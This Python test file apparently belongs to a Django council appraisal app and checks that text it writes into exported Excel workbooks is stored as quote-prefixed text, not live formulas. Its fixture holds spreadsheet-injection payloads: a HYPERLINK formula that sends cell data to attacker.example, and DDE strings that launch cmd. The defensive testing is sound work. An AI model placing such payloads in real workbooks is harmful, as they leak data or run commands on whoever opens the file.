"""Text the app writes into a workbook is never a formula (issue 13, defect 3): a service name or scope reason such as
=HYPERLINK("http://…?d="&C2,"Click") used to be written to the export and the template as a live formula that ran
when a colleague opened the file."""

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from appraisal.models import ServiceScope
from appraisal.workbook.writer import export_workbook, template_workbook
from councils.models import Council
from services.models import Service, ServiceCluster

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2,"Click for details")'
TEXTS = {
    "service": HYPERLINK,
    "reason": "+cmd|' /C calc'!A0",
    "cluster": "-2+3",
    "council": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "\t=1+1",
    "other reason": "\r=2+2",
    "error-looking name": "#N/A",
}
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")  # a <f> element, the only way a cell holds a formula


@pytest.fixture
def hostile(dh_appraisal):
    """The demo appraisal with names and reasons an attacker (or a careless paste) could give them."""
    finance = Service.objects.get(name="Finance")
    Service.objects.filter(pk=finance.pk).update(name=TEXTS["service"])
    ServiceScope.objects.filter(appraisal=dh_appraisal, service__name="ICT").update(reason=TEXTS["other reason"])
    Service.objects.filter(name="Museums").update(name=TEXTS["error-looking name"])
    ServiceScope.objects.update_or_create(
        appraisal=dh_appraisal, service=finance, defaults={"scope": "limited", "reason": TEXTS["reason"]}
    )
    ServiceCluster.objects.filter(name="Strategic Management").update(name=TEXTS["cluster"])
    Council.objects.filter(code="HBC").update(name=TEXTS["council"])
    dh_appraisal.title = TEXTS["title"]
    dh_appraisal.save(update_fields=["title"])
    return dh_appraisal


def formulas(content: bytes) -> dict[str, int]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return {n: len(FORMULA.findall(archive.read(n))) for n in sheets if FORMULA.search(archive.read(n))}


def every_text(content: bytes) -> list[tuple[str, str, object, str, bool]]:
    wb = load_workbook(io.BytesIO(content))
    # Read as Excel reads text: openpyxl leaves Excel's _x000D_ (a carriage return) as it is written.
    return [
        (ws.title, cell.coordinate, unescape(cell.value), cell.data_type, cell.quotePrefix)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.mark.parametrize("make", [export_workbook, template_workbook], ids=["export", "template"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_reads_back_unchanged(hostile, make):
    content = make(appraisal=hostile)
    assert formulas(content) == {}  # the app writes no formula into any cell on purpose
    texts = every_text(content)
    assert {data_type for *_, data_type, _ in texts} == {"s"}
    found = {value for _, _, value, *_ in texts}
    for text in TEXTS.values():
        assert text in found, text
    services = {(row[0], row[1]) for row in load_workbook(io.BytesIO(content))["Services"].values}
    assert ("Corporate Services", HYPERLINK) in services
    # Excel's quote prefix on text that would start a formula, so editing the cell keeps it text; not on other text.
    prefixed = {value for _, _, value, _, quoted in texts if quoted}
    assert prefixed == {t for t in found if t.startswith(("=", "+", "-", "@", "\t", "\r"))}
    assert HYPERLINK in prefixed and "#N/A" not in prefixed
